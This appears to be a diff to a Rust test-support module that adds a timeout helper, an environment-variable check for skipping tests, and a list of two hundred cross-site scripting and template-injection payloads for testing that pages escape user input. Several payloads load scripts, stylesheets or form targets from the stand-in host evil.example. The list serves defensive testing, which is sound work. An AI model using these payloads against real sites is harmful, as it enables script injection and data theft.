@@ -7,6 +7,7 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use base::clock::Clock;
+use base::config::variable;
 use sandbox::{ChannelConfig, IntegrationConfig, Sandbox, SandboxConfig};
 
 /// How long tests wait for what comes as soon as the machine allows: busy machines are slow, and a lease that a dead
@@ -110,4 +111,95 @@ pub async fn start_sandbox(clock: &Clock) -> Sandbox {
         now: Arc::new(move || clock.now()),
     };
     Sandbox::start(config).await.expect("the sandbox starts")
+}
+
+// Time limits that a busy machine does not break.
+
+/// How long the machine's clock is believed at a time.
+const TICK: Duration = Duration::from_millis(50);
+
+/// Waits for something, and fails the test if it takes longer than this. Time is counted in small pauses of this very
+/// process: a machine that is too busy to run it makes them longer, too.
+pub async fn ends_within<T>(limit: Duration, what: impl Future<Output = T>) -> T {
+    let counted = async {
+        let mut left = limit;
+        while !left.is_zero() {
+            tokio::time::sleep(TICK).await;
+            left = left.saturating_sub(TICK);
+        }
+    };
+    tokio::select! {
+        biased;
+        done = what => done,
+        () = counted => panic!("it takes longer than {limit:?}"),
+    }
+}
+
+// External programs that tests need, found through environment variables.
+
+/// The value of the variable. `None`, with a line on stdout, if unset: the test is to be skipped.
+///
+/// # Panics
+/// Instead of skipping, if `PAROM_TEST_ALL` is set: `tests/run` installs everything, so nothing may be missing there.
+pub fn needed(name: &str) -> Option<String> {
+    let value = variable(name);
+    if value.is_none() {
+        assert!(variable("PAROM_TEST_ALL").is_none(), "{name} is not set, and no test may be skipped (PAROM_TEST_ALL)");
+        println!("skipped: {name} is not set; tests/run installs what it names and sets it");
+    }
+    value
+}
+
+// Injection payloads: two hundred texts that do harm where a page treats them as markup.
+
+/// How an attack breaks out of its context.
+pub const OUT: [&str; 8] = ["", "\">", "'>", "</title>", "</textarea>", "</select>", "-->", "]]>"];
+
+/// The attack itself.
+pub const ATTACKS: [&str; 25] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<math><mglyph><style><img src=x onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<!--<script>alert(1)</script>",
+    " onmouseover=alert(1) x=",
+    "javascript:alert(1)",
+    "{{ 7 * 7 }}${7*7}<%= 7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u{202e}evil\u{202c}<b>bold</b>",
+];
+
+/// All two hundred.
+pub fn payloads() -> impl Iterator<Item = String> {
+    OUT.into_iter().flat_map(|out| ATTACKS.into_iter().map(move |attack| format!("{out}{attack}")))
+}
+
+/// All of them, joined into texts of at most this many bytes, for fields that are slow to fill.
+pub fn batches(bytes: usize) -> Vec<String> {
+    let mut all: Vec<String> = Vec::new();
+    for payload in payloads() {
+        match all.last_mut().filter(|last| last.len() + payload.len() < bytes) {
+            Some(last) => {
+                last.push(' ');
+                last.push_str(payload.trim());
+            }
+            None => all.push(payload.trim().to_owned()),
+        }
+    }
+    all
 }
